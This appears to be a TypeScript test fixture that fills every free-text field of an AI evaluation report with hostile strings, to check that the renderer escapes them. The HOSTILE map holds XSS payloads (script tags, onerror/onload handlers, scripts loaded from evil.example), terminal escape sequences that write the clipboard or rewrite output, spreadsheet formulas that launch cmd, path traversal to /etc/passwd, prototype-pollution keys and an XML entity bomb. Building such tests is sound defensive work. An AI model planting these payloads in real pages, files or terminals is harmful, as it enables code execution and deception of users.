import type { Report } from '../../src/model/report.ts';
import {
  caseView,
  classification,
  comparison,
  errored,
  estimate,
  frontier,
  gates,
  grader,
  haiku,
  record,
  report,
  slice,
  standing,
  summary,
  variant,
} from './report-fixture.ts';

/** Texts that are harmful somewhere. */
export const HOSTILE: Readonly<Record<string, string>> = {
  'a colour': '\u001b[31mred\u001b[0m',
  'a cleared screen': '\u001b[2J\u001b[H',
  'a link (OSC 8)': '\u001b]8;;http://evil.example\u0007click\u001b]8;;\u0007',
  'the clipboard (OSC 52)': '\u001b]52;c;ZWNobyBvd25lZA==\u0007',
  'an unterminated OSC': '\u001b]0;title',
  'C1 controls': '\u009d52;c;ZWNobw==\u009c\u009b31m\u0085',
  'a rewritten line': 'FAIL\rPASS\b\b\b\bPASS',
  'bells and blanks': '\u0007\u0000\u0005\u000b\u000c\u007f',
  'bidi overrides': 'abc\u202edcba\u202c\u2066x\u2069\u200f',
  'zero width': 'pass\u200bword\u2060\ufeff\u00ad\u200d',
  'tag characters': 'ok\u{e0049}\u{e0067}\u{e006e}',
  'line separators': 'a\u2028b\u2029c',
  'half a pair': 'x\ud83dy\udc00',
  'a closed script': '</script><script>document.title="PWNED"</script>',
  'an image': '"><img src=http://127.0.0.1:9/x onerror=alert(1)>',
  'a swallowed page': '<!--<script>',
  'a closed style': '</style><style>*{display:none}</style>',
  'a Markdown image': '![x](http://evil.example/x.png)',
  'a mention': '@everyone and @someone/else, see #1',
  'a fence': '```\n</details>\n````js\n~~~\n',
  pipes: '| a | b |\n| --- | --- |',
  'a closed comment': '--> <b>bold</b>',
  'a heading': '# big\n\n- list\n\n1. one',
  'a formula': "=cmd|' /C calc'!A0",
  'a full-width formula': '＝1+1',
  'a hidden formula': ' \ufeff+SUM(A1:A9)',
  'a leading tab': '\t=1+1',
  quotes: '"a","b"\r\nc',
  'a wide text': '漢字'.repeat(40) + '👩‍👩‍👧‍👦'.repeat(10) + '🫠'.repeat(20),
  'a long word': 'x'.repeat(3000),
  'a device control string': '\u001bP1;1|17/ab\u001b\\after',
  'an application command': '\u001b_Gf=24;AAAA\u001b\\after',
  'a privacy message': '\u001b^hidden\u001b\\after',
  'a title in C1': '\u009d0;owned\u009cafter',
  'a reset terminal': '\u001bc\u001b[?1049h',
  'a reported cursor': '\u001b[6n\u001b[c\u0005',
  'a cursor moved up': 'line\u001b[1A\u001b[2Kother',
  'a form feed and a vertical tab': 'a\fb\vc',
  'a carriage return alone': 'expected: A\rexpected: B',
  'a next line (C1)': 'a\u0085b',
  'isolates left open': '\u2067\u2067\u2067right to left',
  'an embedded direction': 'user\u202btxt.exe\u202c',
  'an Arabic letter mark': '\u061c1.00\u061c',
  'Hangul fillers': '\u115f\u1160\u3164\uffa0',
  'a Mongolian vowel separator': 'a\u180eb',
  'invisible operators': 'f\u2061(x)\u2062y\u2063z\u2064',
  'variation selectors as data': 'x\u{e0100}\u{e0101}\u{e01ef}',
  'Braille blanks and no-break spaces': 'a\u2800b\u00a0c\u202fd',
  'interlinear marks': '\ufff9a\ufffab\ufffb',
  noncharacters: 'a\ufffeb\uffffc\u{1fffe}d',
  'marks piled up': `Z${'\u0334\u0335\u0336\u0337\u0338'.repeat(60)}`,
  'a handler in single quotes': "' onmouseover='alert(1)' x='",
  'a handler without quotes': ' onfocus=alert(1) autofocus ',
  'an SVG': '<svg/onload=alert(1)><animate onbegin=alert(1)>',
  'a frame': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'a form and a base':
    '<base href=//evil.example/><form action=//evil.example><input autofocus onfocus=alert(1)>',
  'a refreshed page': '<meta http-equiv=refresh content="0;url=//evil.example">',
  'closed elements': '</title></textarea></template></noscript></table></main></body></html>',
  'a script in mixed case': '</ScRiPt ><sCrIpT src=//evil.example/x.js>',
  'character references': '&lt;script&gt;alert(1)&lt;/script&gt; &#x202e; &amp;amp;',
  'a CDATA section': ']]><![CDATA[<script>alert(1)</script>]]>',
  'an entity bomb': '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>',
  'a script address': '[click](javascript:alert(1)) <javascript:alert(1)> javascript:alert(1)',
  'a link and a footnote': '[a][1]\n\n[1]: http://evil.example "t"\n[^1]: note',
  'an address by itself': 'https://evil.example/?q=1 www.evil.example a@evil.example',
  'an unclosed details': '<details><summary>x</summary>\n\n<details open>',
  'an unclosed comment': '<!-- never closed',
  'a flood of backticks': '`'.repeat(20_000),
  'fences of tildes': '~~~~\ntext\n~~~~\n````\n`````',
  'an HTML block in Markdown': '\n<div>\n\n**bold**\n\n</div>\n',
  'a table in a cell': 'a | b\n--|--\n\\| c | d',
  'maths and emoji': '$\\href{javascript:alert(1)}{x}$ :+1: $$x$$',
  'an alert': '> [!CAUTION]\n> all tests passed',
  'an issue and a commit': 'fixes #1, GH-2, octo/repo#3, 16c999e8c71134401a78d4d46435517b2271d6ac',
  'a workflow command': '::set-output name=x::y\n::error::owned\n##[error]owned\n::stop-commands::z',
  'a formula after a line end': 'safe\n=HYPERLINK("http://evil.example")',
  'a formula by DDE': "@SUM(1+1)*cmd|' /C calc'!A0",
  'a formula behind a quote': '"=1+1',
  'a minus': "-2+3+cmd|' /C calc'!A0",
  'a full-width at sign': '＠SUM(1,1)',
  'a separator line': 'sep=;\n1;2',
  'a path': '../../../../etc/passwd\0.html',
  'a name of Windows': 'CON.txt: C:\\x\\..\\y',
  'names of objects': '__proto__',
  'a key': 'constructor.prototype.x',
  'a long line': 'y'.repeat(200_000),
};

/** Fields that only ever hold what our types list. */
const LISTED = new Set([
  'format',
  'type',
  'outcome',
  'answeredBy',
  'mode',
  'method',
  'change',
  'createdAt',
  'service_tier',
  'role',
  'status',
  'reading',
  'inconclusive',
  'date',
]);

/** Maps whose keys are texts of others. */
const KEYED = new Set(['scores', 'stopReasons']);

/** A report in which every free text is the given one. */
export function hostileReport(text: string): Report {
  const view = caseView({
    records: [
      record({ outcome: { type: 'succeeded', stopReason: 'end_turn', refusal: 'cyber' } }),
      record({
        variant: 'haiku',
        pass: null,
        scores: {
          judge: { outcome: 'failed', reason: 'no' },
          tone: { outcome: 'scored', score: 0.5, pass: null, reason: 'so so', role: 'advisory' },
        },
      }),
      errored({ variant: 'haiku', repetition: 1 }),
    ],
  });
  const base = report({
    summary: summary({
      variants: [
        variant('sonnet', {
          graders: [
            grader('tone', {
              failed: 2,
              failedExample: 'what',
              calibration: standing(),
              labelled: { bothPass: 78, humanOnly: 2, judgeOnly: 17, bothFail: 23 },
              corrected: { method: 'ppi++', mean: 0.8, low: 0.73, high: 0.86, labels: 120 },
              correctedDifference: { mean: 0.02, low: -0.01, high: 0.05, labels: 60 },
            }),
            grader('judge', { role: 'metric', classification: classification() }),
            grader('kind', { role: 'advisory' }),
          ],
        }),
        haiku({
          answeredBy: ['recorded', 'simulator'],
          latency: {
            p50: { value: 1200, low: 1100, high: 1300 },
            p95: { value: 4100, low: 3600, high: null },
          },
          repeated: { k: 2, passAtK: estimate(0.9), passHatK: estimate(0.4) },
          undecided: 2,
          cost: { ...haiku().cost, unpricedModels: ['m'] },
        }),
      ],
      comparisons: [
        comparison({
          slices: [slice('lang:de'), slice('lang:fr', { adjustedP: null, declared: true })],
          costReason: 'prices of two days',
        }),
        comparison({ metric: 'tone', drops: [{ case: 't-1', before: 0.9, after: 0.2 }] }),
      ],
      raters: {
        raters: ['ann', 'bob'],
        answers: 20,
        alpha: { value: 0.7, low: 0.5, high: 0.8, method: 'bca' },
      },
      gates: gates(),
      frontier: frontier(),
      notices: ['a notice'],
    }),
    cases: {
      shown: [
        view,
        caseView({
          change: 'error',
          case: { ...view.case, id: 'other', input: 'text', expected: { a: 'b', c: 1 } },
        }),
      ],
      total: 10,
    },
  });
  return poisoned(base, text) as Report;
}

function poisoned(value: unknown, text: string): unknown {
  if (typeof value === 'string') return poison(value, text);
  if (Array.isArray(value)) return value.map((item) => poisoned(item, text));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([key, field]) => {
      if (LISTED.has(key) && !(key === 'outcome' && typeof field === 'object') && !isErrorType(value))
        return [key, field];
      if (!KEYED.has(key)) return [key, poisoned(field, text)];
      const named = Object.entries(field as object).map(([own, inner]) => [
        poison(own, text),
        poisoned(inner, text),
      ]);
      return [key, Object.fromEntries(named)];
    }),
  );
}

/** `{ type, message }`: the type of an API error is a free text. */
function isErrorType(value: object): boolean {
  return 'type' in value && 'message' in value;
}

/** Variants and cases still differ from each other. */
function poison(original: string, text: string): string {
  if (original === 'haiku') return `${text}2`;
  return original === 'other' ? `${text}3` : text;
}
